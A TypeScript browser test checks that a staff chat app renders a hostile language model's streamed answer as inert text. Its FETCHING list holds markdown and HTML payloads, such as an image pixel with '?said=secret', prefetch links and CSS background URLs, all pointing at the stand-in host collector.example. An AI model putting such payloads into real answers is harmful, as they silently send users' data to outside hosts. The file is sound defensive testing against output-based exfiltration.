import { AppServer } from './app-server.ts'
import { DEMO_DATA } from './demo-data.ts'
import { expect, signIn, test } from './fixtures.ts'
import { HOSTILE_TEXTS, textsIn, watch } from './hostile-texts.ts'
import { startModel } from './model-server.ts'
import { apiAs } from './record.ts'

/** What an answer would take a person's words out of the page with: each names a host that is not ours. */
const FETCHING = [
  '![pixel](https://collector.example/pixel?said=secret)',
  '<img src="https://collector.example/img">',
  '<link rel="prefetch" href="https://collector.example/link">',
  '<video poster="https://collector.example/poster"></video>',
  '<p style="background:url(https://collector.example/style)">x</p>',
  '[![x](https://collector.example/nested)](https://collector.example/there)',
  '[x]: https://collector.example/reference',
]
const HEAD = '# 見出し\n\n- **太字** の答え\n\n'

test('a model whose answer is hostile: it is read as text, runs nothing and fetches nothing', async ({ page }) => {
  const model = await startModel()
  const server = await AppServer.create({ dataFrom: DEMO_DATA, settings: { TRUSTED_HOSTS: model.host } })
  try {
    const api = await apiAs(server.origin, 'admin@sakura.example')
    const chat = { provider: 'openai-compatible', base_url: `http://${model.host}/v1`, model: '敵対モデル' }
    await api('PUT', '/api/administration/models', { chat })
    const check = await watch(page, server.origin)
    await signIn(page, server)
    await page.goto(`${server.origin}/staff-chat`)
    await page.getByRole('textbox', { name: '質問' }).fill('スタッフの内線番号の一覧')
    await page.getByRole('button', { name: '送信' }).click()
    // One text of ten, from different surroundings: together they stand in all of them and in all vectors.
    const texts = HOSTILE_TEXTS.filter((_, index) => index % 10 === Math.floor(index / 38) % 10)
    model.say(HEAD)
    for (const text of [...FETCHING, ...texts]) model.say(`${text}\n\n`)
    const streamed = page.locator('[aria-busy=true] .answer')
    await expect(streamed).toContainText(`x${textsIn(texts.at(-1) ?? '').at(0)}x`)
    await check()

    model.end()
    const answer = page.locator('.answer')
    await expect(page.getByText('敵対モデル')).toBeVisible()
    await expect(answer).toContainText('太字')
    const shown = new Set(textsIn(await answer.innerText()))
    expect(texts.filter((text) => !textsIn(text).some((index) => shown.has(index)))).toEqual([])
    await expect(answer.locator('img, iframe, video, object, embed, link, script, style, svg')).toHaveCount(0)
    await page.reload()
    await expect(page.locator('.answer')).toContainText('太字')
    await check()
  } finally {
    await server.dispose()
    model.close()
  }
})
